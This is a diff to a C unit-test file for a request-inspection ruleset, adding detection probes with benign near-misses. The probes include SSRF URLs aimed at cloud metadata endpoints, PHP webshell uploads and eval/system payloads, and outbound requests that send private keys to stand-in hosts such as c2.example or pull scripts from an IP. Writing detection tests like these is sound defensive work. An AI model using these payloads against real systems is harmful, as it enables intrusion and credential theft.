@@ -12,6 +12,7 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <arpa/inet.h>
 
 #include <cmocka.h>
 
@@ -35,6 +36,10 @@ struct probe {
 	const char *hname;
 	const char *hval;
 	const char *body;
+	/* a request a process on this host sent (its comm and exe), or NULL:
+	 * a request the server received, from no particular process */
+	const char *out_comm;
+	const char *out_exe;
 };
 
 /* A rule, one attack on it, one near-miss that must fire nothing. */
@@ -44,20 +49,88 @@ struct row {
 	struct probe near;
 };
 
-#define GET(u)                             \
-	{                                  \
-		"GET", u, NULL, NULL, NULL \
+#define GET(u)                                         \
+	{                                              \
+		"GET", u, NULL, NULL, NULL, NULL, NULL \
 	}
-#define HDR(n, v)                      \
-	{                              \
-		"GET", "/", n, v, NULL \
+#define HDR(n, v)                                  \
+	{                                          \
+		"GET", "/", n, v, NULL, NULL, NULL \
 	}
-#define POST(u, b)                       \
-	{                                \
-		"POST", u, NULL, NULL, b \
+#define POST(u, b)                                   \
+	{                                            \
+		"POST", u, NULL, NULL, b, NULL, NULL \
+	}
+/* A multipart/form-data body with one file part. */
+#define UPLOAD(fname, content)                                                   \
+	{                                                                        \
+		"POST", "/upload", "Content-Type",                               \
+			"multipart/form-data; boundary=b0",                      \
+			"--b0\r\n"                                               \
+			"Content-Disposition: form-data; name=\"f\"; "           \
+			"filename=\"" fname "\"\r\n"                             \
+			"Content-Type: application/octet-stream\r\n\r\n" content \
+			"\r\n--b0--\r\n",                                        \
+			NULL, NULL                                               \
+	}
+/* Outbound: @comm (@exe) sent @m @u to Host @host with @b. */
+#define OUT(comm, exe, m, u, host, b)            \
+	{                                        \
+		m, u, "Host", host, b, comm, exe \
 	}
 
+#define KEY "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n"
+
 static const struct row rows[] = {
+	/* 1007xx SSRF to cloud metadata services */
+	{ 100700, GET("/fetch?url=http://169.254.169.254/latest/meta-data/"),
+	  GET("/docs?q=link-local+169.254.1.1+and+169.254.169.2540") },
+	{ 100700, GET("/fetch?url=http%3A%2F%2Fmetadata.google.internal%2F"),
+	  GET("/search?q=google+metadata+internal+docs") },
+	{ 100700, POST("/hook", "url=http://2852039166/latest/user-data"),
+	  POST("/pay", "amount=2852039166&currency=EUR") },
+	{ 100700, GET("/fetch?url=http://[fd00:ec2::254]/latest/"),
+	  GET("/fetch?url=http://[fd00:ec2::25]/x") },
+	{ 100700, GET("/fetch?u=http://0251.0376.0251.0376/"),
+	  GET("/v?ver=0251.0376") },
+	/* 1008xx webshell uploads */
+	{ 100800, UPLOAD("shell.php", "x"), UPLOAD("report.pdf", "%PDF-1.4") },
+	{ 100800, UPLOAD("avatar.php.jpg", "x"), UPLOAD("php-guide.txt", "x") },
+	{ 100800, UPLOAD("cmd.jspx", "x"), UPLOAD("notes.phpx", "x") },
+	{ 100801, POST("/save", "c=<?php+@eval($_POST['x']);+?>"),
+	  POST("/post", "text=use+eval()+with+care+in+php,+not+$_POST") },
+	{ 100801, UPLOAD("a.txt", "<?php system(base64_decode($_GET[c])); ?>"),
+	  UPLOAD("b.txt", "<?php echo htmlspecialchars($_GET['q']); ?>") },
+	/* 1009xx outbound */
+	{ 100900,
+	  OUT("python3", "/usr/bin/python3.11", "POST", "/api/api_post.php",
+	      "pastebin.com", "api_paste_code=secrets"),
+	  OUT("python3", "/usr/bin/python3.11", "GET", "/raw/abc",
+	      "pastebin.com", NULL) },
+	{ 100900,
+	  OUT("curl", "/usr/bin/curl", "PUT", "/exfil.tar", "transfer.sh",
+	      "data"),
+	  OUT("curl", "/usr/bin/curl", "PUT", "/upload", "transfer.example",
+	      "data") },
+	{ 100901,
+	  OUT("curl", "/usr/bin/curl", "GET", "/install.sh", "get.example",
+	      NULL),
+	  OUT("curl", "/usr/bin/curl", "GET", "/install.sh.sig", "get.example",
+	      NULL) },
+	{ 100901,
+	  OUT("wget", "/usr/bin/wget", "GET", "/x/run.bash", "1.2.3.4", NULL),
+	  OUT("python3", "/usr/bin/python3.11", "GET", "/x/run.bash", "1.2.3.4",
+	      NULL) },
+	{ 100902,
+	  OUT("python3", "/usr/bin/python3.11", "POST", "/collect",
+	      "c2.example", "k=" KEY),
+	  OUT("ssh", "/usr/bin/ssh", "POST", "/collect", "c2.example",
+	      "k=" KEY) },
+	{ 100902,
+	  OUT("curl", "/usr/bin/curl", "POST", "/u", "x.example",
+	      "-----BEGIN RSA PRIVATE KEY-----\nMIIE"),
+	  OUT("curl", "/usr/bin/curl", "POST", "/u", "x.example",
+	      "-----BEGIN PUBLIC KEY-----\nMIIB") },
 	/* 1001xx SQL injection */
 	{ 100100, GET("/search?q=1'+UNION+SELECT+password+FROM+users--"),
 	  GET("/search?q=trade+union+select+committee+report") },
@@ -191,6 +264,17 @@ static const struct row rows[] = {
 static const struct probe benign[] = {
 	GET("/"),
 	GET("/search?q=union+station+timetable"),
+	/* what this host's own clients send every day */
+	OUT("apt", "/usr/lib/apt/methods/http", "GET",
+	    "/debian/dists/bookworm/InRelease", "deb.debian.org", NULL),
+	OUT("curl", "/usr/bin/curl", "GET", "/releases/tool.tar.gz",
+	    "github.com", NULL),
+	OUT("python3", "/usr/bin/python3.11", "POST", "/v1/events",
+	    "api.example", "{\"name\":\"login\",\"user\":\"alice\"}"),
+	OUT("ssh", "/usr/bin/ssh", "POST", "/keys", "vault.example", "k=" KEY),
+	POST("/keys", "pub=-----BEGIN+PUBLIC+KEY-----"),
+	/* a server receiving a key is not an exfiltration from this host */
+	POST("/import", "k=-----BEGIN+OPENSSH+PRIVATE+KEY-----"),
 	GET("/products?category=shoes&sort=price_asc&page=2"),
 	GET("/search?q=rock+or+roll"),
 	GET("/search?q=1+or+2"),
@@ -264,8 +348,11 @@ static int teardown(void **state)
 
 static void build_probe(struct treq *req, const struct probe *p)
 {
+	static struct enf_req_origin o;
+
 	treq_init(req, p->method, p->uri);
-	treq_header(req, "Host", "shop.example");
+	if (!p->hname || strcmp(p->hname, "Host"))
+		treq_header(req, "Host", "shop.example");
 	if (!p->hname || strcmp(p->hname, "User-Agent"))
 		treq_header(req, "User-Agent", FIREFOX);
 	treq_header(req, "Accept",
@@ -275,18 +362,33 @@ static void build_probe(struct treq *req, const struct probe *p)
 	if (p->hname)
 		treq_header(req, p->hname, p->hval);
 	if (p->body) {
-		treq_header(req, "Content-Type",
-			    "application/x-www-form-urlencoded");
+		if (!p->hname || strcmp(p->hname, "Content-Type"))
+			treq_header(req, "Content-Type",
+				    "application/x-www-form-urlencoded");
 		treq_body(req, p->body);
+	}
+	if (p->out_comm) {
+		memset(&o, 0, sizeof(o));
+		o.comm = p->out_comm;
+		o.exe = p->out_exe;
+		o.tls_lib = "openssl";
+		o.direction = ENF_REQ_OUTBOUND;
+		o.tuple.family = ENF_FAMILY_V4;
+		o.tuple.sport = htons(443);
+		o.tuple.dport = htons(40000);
+		memcpy(o.tuple.saddr, "\xc6\x33\x64\x09", 4); /* the server */
+		req->req.origin = &o;
 	}
 }
 
 static void describe(const struct probe *p, char *buf, size_t len)
 {
-	snprintf(buf, len, "%s %s%s%s%s%s%s", p->method, p->uri,
-		 p->hname ? " [" : "", p->hname ? p->hname : "",
-		 p->hname ? ": " : "", p->hname ? p->hval : "",
-		 p->hname ? "]" : "");
+	snprintf(buf, len, "%s%s%s%s %s%s%s%s%s%s",
+		 p->out_comm ? "outbound from " : "",
+		 p->out_exe ? p->out_exe : "", p->out_comm ? ": " : "",
+		 p->method, p->uri, p->hname ? " [" : "",
+		 p->hname ? p->hname : "", p->hname ? ": " : "",
+		 p->hname ? p->hval : "", p->hname ? "]" : "");
 	if (p->body)
 		snprintf(buf + strlen(buf), len - strlen(buf), " body '%s'",
 			 p->body);
@@ -318,7 +420,7 @@ static void test_rules_are_well_formed(void **state)
 		if (r->severity < 0)
 			fail_msg("rule %u: no severity", r->id);
 		if (strcmp(r->engine, "hyperscan") &&
-		    strcmp(r->engine, "pcre2"))
+		    strcmp(r->engine, "pcre2") && strcmp(r->engine, "literal"))
 			fail_msg("rule %u: runs on %s", r->id, r->engine);
 	}
 }
@@ -479,7 +581,10 @@ static void test_tautology_runs_on_pcre2_rest_on_hyperscan(void **state)
 
 	for (size_t i = 0; i < n; i++) {
 		const struct enf_rule_info *r = enf_ruleset_rule(d->t.rs, i);
-		const char *want = r->id == 100101 ? "pcre2" : "hyperscan";
+		/* the outbound chains start with DIRECTION "@streq ..." */
+		const char *want = r->id == 100101     ? "pcre2" :
+				   r->id / 100 == 1009 ? "literal" :
+							 "hyperscan";
 
 		if (strcmp(r->engine, want))
 			fail_msg("rule %u runs on %s, want %s", r->id,
